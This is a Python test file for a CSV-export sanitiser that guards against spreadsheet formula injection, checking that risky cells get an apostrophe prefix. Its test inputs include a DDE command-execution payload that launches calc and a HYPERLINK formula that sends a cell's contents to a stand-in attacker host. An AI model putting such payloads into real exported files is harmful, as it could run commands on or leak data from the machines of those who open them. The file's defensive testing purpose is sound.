"""Every CSV cell a spreadsheet would run as a formula is written as text (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io

import pyarrow as pa

from kuaiban import csvsafe


def test_cells_starting_a_formula_get_an_apostrophe():
    for risky in ("=1+1", "+cmd", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1", "\r=1",
                  '=HYPERLINK("http://evil.example/?"&A1,"x")'):
        assert csvsafe.cell(risky) == "'" + risky


def test_plain_values_and_numbers_stay_as_they_are():
    for plain in ("北京", "2020-08", "a=b", "", "-12.5", "+3", "-1e5", 42, None, 1.5):
        assert csvsafe.cell(plain) == plain


def test_the_writer_neutralises_every_row():
    out = io.StringIO()
    csvsafe.writer(out, lineterminator="\n").writerows([["name", "=1+1"], ["-5", "@x"]])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [["name", "'=1+1"], ["-5", "'@x"]]


def test_arrow_tables_are_neutralised_in_text_columns_only():
    table = pa.table({"note": ["=cmd", "ok", None, "-3"], "n": [-1, 2, 3, 4],
                      "code": pa.array(["@a", "b", "c", "d"]).dictionary_encode()})
    safe = csvsafe.arrow_table(table)
    assert safe.column("note").to_pylist() == ["'=cmd", "ok", None, "-3"]
    assert safe.column("n").to_pylist() == [-1, 2, 3, 4]
    assert safe.column("code").to_pylist() == ["'@a", "b", "c", "d"]
